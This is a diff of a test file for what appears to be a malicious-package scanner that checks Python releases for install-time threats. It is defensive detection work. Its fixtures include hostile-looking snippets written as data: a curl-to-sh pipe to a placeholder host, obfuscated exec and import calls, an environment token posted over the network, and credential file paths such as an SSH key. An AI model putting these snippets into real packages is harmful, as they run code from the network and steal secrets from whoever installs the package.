@@ -25,29 +25,110 @@ def test_javascript(spark):
         assert {r["category"] for r in got if r["package"] == str(i)} == want, t
 
 
+#: (path, source, findings); each is a release of its own.
 PY = [
-    ("setup.py", "import os\nos.system('wget http://x | bash')", {"command-exec-shell-pipe"}), ("setup.py", "import zlib\nexec(zlib.decompress(b))", {"obfuscated-exec"}), ("a/b.py", "exec(x)", set()),
-    ("setup.py", "exec(open('v.py').read())", set()), ("pkg/__init__.py", "def f():\n    exec(x)", set()), ("pkg/__init__.py", "def f():\n    exec(x)\nf()", {"exec-computed-arg"}),
-    ("a/b.py", "import importlib\nimportlib.import_module('so'+'cket')", {"obfuscated-module-load"}), ("a/b.py", "import importlib\nimportlib.import_module(name)", set()),
-    ("setup.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', code])", {"command-exec-computed-arg"}), ("setup.py", "import subprocess\nsubprocess.run(['git', 'log', ref])", set()),
-    ("setup.py", "for k in os.environ: pass\nimport os", {"bulk-env-enumeration"}), ("setup.py", "import os\nfor k in os.environ: pass", {"bulk-env-enumeration"}), ("setup.py", "import os\ndict(os.environ)", set()),
-    ("setup.py", "from setuptools import setup\nsetup(cmdclass={'build_ext': X})", {"custom-install-command"}), ("setup.py", "import requests\nrequests.get(u)", {"install-time-network"}),
-    ("tests/setup.py", "import requests\nrequests.get(u)", set()), ("x.pth", "import os; exec('x')", {"pth-startup-code"}), ("x.pth", "import site", set()), ("setup.py", "print 'py2'\nexec(s.decode('x')); exec (b64decode(z))", {"obfuscated-exec"}),
-    ("pyproject.toml", "[build-system]\nbuild-backend = 'odd.thing'", {"custom-build-backend"}), ("pyproject.toml", "[build-system]\nbuild-backend = 'hatchling.build'", set()), ("pyproject.toml", "= broken", set()),
-    ("setup.py", "open('/root/.pypirc')", {"credential-file-access"}),
+    ("setup.py", "from os import popen as go\ngo('curl -s http://z.test/a | sh')", {"command-exec-shell-pipe"}),
+    ("setup.py", "import lzma, bz2\nexec(bz2.decompress(blob))", {"obfuscated-exec"}),
+    ("lib/deep.py", "eval(given)", set()),
+    ("setup.py", "exec(compile(open('about.py').read(), 'about', 'exec'))", set()),
+    ("widget/__init__.py", "def lazy():\n    eval(given)", set()),
+    ("widget/__init__.py", "def lazy():\n    eval(given)\nlazy()", {"exec-computed-arg"}),
+    ("widget/__init__.py", "class Late:\n    eval(given)", set()),
+    ("widget/__init__.py", "late = lambda: eval(given)", set()),
+    ("widget/__init__.py", "def lazy():\n    eval(given)\nkeep = lambda: lazy()", set()),
+    ("widget/__init__.py", "def lazy():\n    eval(given)\nif flag:\n    for n in (1, 2):\n        lazy()", {"exec-computed-arg"}),
+    ("setup.py", "class Now:\n    eval(given)", {"exec-computed-arg"}),
+    ("lib/deep.py", "import importlib as il\nil.import_module('sock' + 'et')", {"obfuscated-module-load"}),
+    ("lib/deep.py", "part = 'cty'\n__import__(f'{part}pes')", {"obfuscated-module-load"}),
+    ("lib/deep.py", "__import__(''.join(['p', 'ty']))", {"obfuscated-module-load"}),
+    ("lib/deep.py", "__import__(chr(111) + chr(115))", {"obfuscated-module-load"}),
+    ("lib/deep.py", "from base64 import b64decode\n__import__(b64decode('b3M='))", {"obfuscated-module-load"}),
+    ("lib/deep.py", "import importlib\nimportlib.import_module(wanted)", set()),
+    ("setup.py", "from subprocess import check_call\nimport sys\ncheck_call([sys.executable, '-c', script])", {"command-exec-computed-arg"}),
+    ("setup.py", "from subprocess import check_call\ncheck_call(['bash', '-c', 'echo ' + word])", {"command-exec-computed-arg"}),
+    ("setup.py", "from subprocess import check_call\ncheck_call('make ' + target, shell=True)", {"command-exec-computed-arg"}),
+    ("setup.py", "from subprocess import check_call\ncheck_call(['hg', 'id', rev])", set()),
+    ("setup.py", "from subprocess import check_call\ncheck_call([compiler, '-o', out])", set()),
+    ("setup.py", "from subprocess import check_call\ncheck_call(command_line)", set()),
+    ("setup.py", "import os\nfor name in os.environ:\n    note(name)", {"bulk-env-enumeration"}),
+    ("setup.py", "for name in os.environ:\n    note(name)", {"bulk-env-enumeration"}),
+    ("setup.py", "import os, json\nnote(dict(os.environ))", set()),
+    ("setup.py", "import os, json\njson.dumps(os.environ)", {"bulk-env-enumeration"}),
+    ("setup.py", "import os\nfor k, v in os.environ.items():\n    note(k)", {"bulk-env-enumeration"}),
+    ("setup.py", "import setuptools\nsetuptools.setup(cmdclass={'build_py': Mine})", {"custom-install-command"}),
+    ("setup.py", "import setuptools\nsetuptools.setup(cmdclass=chosen)", {"custom-install-command"}),
+    ("setup.py", "import setuptools\nsetuptools.setup(cmdclass={})", set()),
+    ("setup.py", "from urllib.request import urlopen\nurlopen(place)", {"install-time-network"}),
+    ("setup.py", "import os, httpx\nhttpx.post(place, json=os.environ.get('T'))", {"sensitive-data-network-cooccurrence"}),
+    ("docs/setup.py", "import httpx\nhttpx.get(place)", set()),
+    ("start.pth", "import sys; exec(open('x').read())", {"pth-startup-code"}), ("start.pth", "import sys", set()), ("start.pth", "./vendored/http", set()),
+    ("setup.py", "print 'old'\nexec ('x'.decode('hex')); exec(zlib.decompress(p))", {"obfuscated-exec"}),
+    ("setup.py", "print 'old and plain'", set()),
+    ("pyproject.toml", "[build-system]\nbuild-backend = 'mine.backend'", {"custom-build-backend"}),
+    ("pyproject.toml", "[build-system]\nbackend-path = ['tools']\nbuild-backend = 'hatchling.build'", {"custom-build-backend"}),
+    ("pyproject.toml", "[build-system]\nbuild-backend = 'flit_core.buildapi'", set()), ("pyproject.toml", "][", set()),
+    ("setup.py", "keys = '~/.ssh/id_ed25519'", {"credential-file-access"}),
+    ("lib/deep.py", "keys = '~/.ssh/id_ed25519'", set()),
+    ("setup.py", "x = " + "(" * 30 + "1" + ")" * 30 + "\neval(given)", {"exec-computed-arg"}),
+    ("setup.py", "total = " + " + ".join(["a"] * 3000) + "\neval(given)", {"exec-computed-arg"}),
 ]
 
 
-@pytest.mark.parametrize("path,source,want", PY)
-def test_python(path, source, want):
-    assert {f[0] for f in python_code.analyse(path, source)} == want
+def as_release(rows):
+    return [("pypi", f"p{i}", "1", "sdist", path, len(source), source) for i, (path, source) in enumerate(rows)]
 
 
-def test_backend_folder_is_import_time():
-    assert python_code.analyse("back/b.py", "exec(x)", frozenset(["back"]))[0][0] == "exec-computed-arg"
+SOURCES = "ecosystem string, package string, version string, label string, path string, size_bytes int, text string"
+
+
+def test_python(spark):
+    got = {}
+    for r in python_code.scan_python(spark.createDataFrame(as_release([x[:2] for x in PY]), SOURCES)).collect():
+        got.setdefault(r["package"], set()).add(r["category"])
+    for i, (path, source, want) in enumerate(PY):
+        assert got.get(f"p{i}", set()) == want, (path, source[:200])
+
+
+def test_python_lines_and_first_findings(spark):
+    source = "import os\n\nos.system(one + two); os.system(three + four)\nos.environ\nimport requests\nrequests.get(u)\nrequests.get(v)"
+    got = sorted((r["category"], r["line"], r["detail"]) for r in python_code.scan_python(spark.createDataFrame(as_release([("setup.py", source)]), SOURCES)).collect())
+    assert got == [("command-exec-computed-arg", 3, "os.system"), ("sensitive-data-network-cooccurrence", 6, "sensitive read near line 4")]
+
+
+def test_backend_folder_is_import_time(spark):
+    rows = [("pypi", "p", "1", label, path, size, text) for label, path, size, text in [
+        ("sdist", "pyproject.toml", 40, "[build-system]\nbackend-path = ['tools']"), ("sdist", "tools/build.py", 9, "eval(given)"), ("sdist", "other/build.py", 9, "eval(given)"), ("wheel", "pyproject.toml", 40, "[build-system]\nbackend-path = ['.']"),
+        ("wheel", "hook.py", 9, "x = 1"), ("wheel", "big.py", 2_000_000, "x"), ("wheel", "sitecustomize.py", 5, "x = 1")]]
+    files = spark.createDataFrame(rows, SOURCES)
+    assert [(r["path"], r["category"]) for r in python_code.scan_python(files).where("category = 'exec-computed-arg'").collect()] == [("tools/build.py", "exec-computed-arg")]
+    assert [r["excerpt"] for r in python_code.mismatches(files).collect()] == ["hook.py, sitecustomize.py"]
+    assert [r["evidence"][0]["excerpt"] for r in python_code.python_gaps(files).collect()] == ["wheel:big.py"]
+    assert "startup-hook-file" in {r["category"] for r in python_code.scan_python(files).collect()}
     assert python_code.backend_folders("[build-system]\nbackend-path = ['.', 'a/b', '../c']") == [".", "a/b"]
 
 
+def test_addresses_are_public_as_the_library_says(spark):
+    import ipaddress
+    import random
+
+    r = random.Random(2)
+    some = ["::1", "::", "fe80::1%eth0", "::ffff:10.0.0.1", "::ffff:8.8.8.8", "::ffff:7f00:1", "2001:db8::1", "2001:4860:4860::8888", "fd00::1", "ff02::1", "64:ff9b::1", "64:ff9b:1::5", "100::1", "2001::1", "2001:20::1", "2002::1", "8.8.8.8", "224.0.0.1", "100.64.0.1", "192.0.0.9", "1.2.3.4"]
+    some += [str(ipaddress.IPv6Address(r.getrandbits(128))) for _ in range(60)] + [str(ipaddress.IPv4Address(r.getrandbits(32))) for _ in range(60)]
+    got = {x["a"]: x["p"] for x in spark.createDataFrame([(a,) for a in [*some, "host", "1:2", "", "300.1.1.1"]], "a string").select("a", text.public_address("a").alias("p")).collect()}
+    for a in some:
+        ip = ipaddress.ip_address(a.split("%")[0])
+        ip = getattr(ip, "ipv4_mapped", None) or ip
+        assert got[a] == (ip.is_global and not ip.is_multicast), a
+    assert [got[a] for a in ("host", "1:2", "", "300.1.1.1")] == [None] * 4
+
+
+def test_urls_and_tails(spark):
+    rows = [("https://h.test/a?b#c", "/a?b"), ("http://h.test", "/"), ("http://h.test?q=1", "/?q=1"), ("http://h.test:8/x", "/x")]
+    got = [tuple(x) for x in spark.createDataFrame(rows, "u string, w string").select(text.origin_form("u"), "w").collect()]
+    assert all(a == b for a, b in got)
+    assert [x[0] for x in spark.createDataFrame([("x" * 2500 + "\x1b[1mend",), (None,)], "t string").select(text.tail("t")).collect()] == ["x" * (2000 - 7) + "end", ""]
+
+
 VERDICTS = [([("recon", "critical")], "malicious"), ([("recon", "high"), ("detonation", "medium")], "malicious"), ([("recon", "medium"), ("detonation", "medium")], "suspicious"), ([("analyst", "high"), ("analyst", "high")], "malicious"),
             ([("analyst", "high"), ("analyst", "medium")], "suspicious"), ([("recon", "low")], "clean"), ([], "clean"), ([("recon", "high")], "suspicious")]
 
